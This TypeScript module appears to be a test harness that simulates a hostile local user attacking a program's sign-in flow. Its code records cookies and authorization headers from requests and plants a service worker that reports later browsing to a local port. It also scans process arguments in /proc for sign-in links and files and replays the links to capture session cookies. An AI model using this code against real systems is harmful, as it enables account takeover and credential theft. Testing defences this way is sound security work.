// Another user of the machine, in a process of its own: listens where it may, reads what it may, and uses what it gets.
import { readdirSync, readFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import { setImmediate as soon } from "node:timers/promises";
import type { Order, Taken } from "./stranger.ts";

const NOBODY = 65_534;
if (process.getuid?.() === 0) {
  process.setgroups?.([]);
  process.setgid?.(NOBODY);
  process.setuid?.(NOBODY);
}

let servers: Server[] = [];
let taken: Taken = { requests: [], links: [], files: [], sign_ins: [] };
let watching = false;

const orders: { [Type in Order["type"]]: (order: Extract<Order, { type: Type }>) => Promise<unknown> } = {
  async listen({ port, hosts }) {
    for (const host of hosts) {
      const server = createServer(answer);
      await new Promise<void>((resolve, reject) => {
        server.on("error", reject).listen(port, host, resolve);
      });
      servers.push(server);
      port = (server.address() as { port: number }).port;
    }
    return port;
  },
  async leave() {
    for (const server of servers) {
      server.close();
      server.closeAllConnections();
    }
    servers = [];
  },
  async watch() {
    watching = true;
    void watchProcesses();
  },
  async taken() {
    const all = taken;
    taken = { requests: [], links: [], files: [], sign_ins: [] };
    return all;
  },
  async read({ paths }) {
    return paths.map((path) => {
      try {
        return readFileSync(path, "utf8");
      } catch {
        return null;
      }
    });
  },
};

process.on("message", async (order: Order & { id: number }) => {
  // Each order goes to the function for its type.
  const value = await orders[order.type](order as never);
  process.send?.({ id: order.id, value });
});
process.on("disconnect", () => process.exit());

function answer({ url = "", headers }: IncomingMessage, response: ServerResponse): void {
  const { host = "", cookie = "", authorization = "" } = headers;
  taken.requests.push({ url, host, cookie, authorization });
  const path = url.split("?")[0] ?? "";
  const [type, body] = PAGES[path] ?? ["text/html", "<p>hello"];
  response.setHeader("content-type", type);
  response.setHeader("service-worker-allowed", "/");
  response.end(body);
}

/** A page that leads to itself, and one that leaves a service worker, which sees everything the browser asks there later. */
const PAGES: Readonly<Record<string, readonly [type: string, body: string]>> = {
  "/bounce": ["text/html", `<script>location.replace("/bounced")</script>`],
  "/stay": [
    "text/html",
    `<script>navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "stayed"; })</script>`,
  ],
  "/worker.js": [
    "text/javascript",
    `addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  const report = "http://127.0.0.1:" + new URL(location).searchParams.get("to") + "/seen?url=" + encodeURIComponent(event.request.url);
  event.respondWith(fetch(report, { mode: "no-cors" }).catch(() => null).then(() => fetch(event.request)));
});`,
  ],
};

/** Looks at the arguments of every process, again and again, and uses a link at once. */
async function watchProcesses(): Promise<void> {
  while (watching) {
    for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) look(pid);
    await soon();
  }
}

const seen = new Set<string>();

function look(pid: string): void {
  let words: string[];
  try {
    words = readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
  } catch {
    // It has ended.
    return;
  }
  for (const word of words) {
    if (seen.has(word)) continue;
    if (/^http:.*\/sign-in\//.test(word)) {
      seen.add(word);
      taken.links.push(word);
      void use(word);
    } else if (/\/sign-in\/.*\.html$/.test(word)) {
      seen.add(word);
      try {
        taken.files.push(readFileSync(word.replace(/^file:\/\//, ""), "utf8"));
      } catch {
        taken.files.push("refused");
      }
    }
  }
}

async function use(link: string): Promise<void> {
  const { pathname, port } = new URL(link);
  const response = await fetch(`http://127.0.0.1:${port}${pathname}`, { redirect: "manual" });
  const cookie = response.headers.get("set-cookie");
  if (cookie !== null) taken.sign_ins.push(cookie);
}
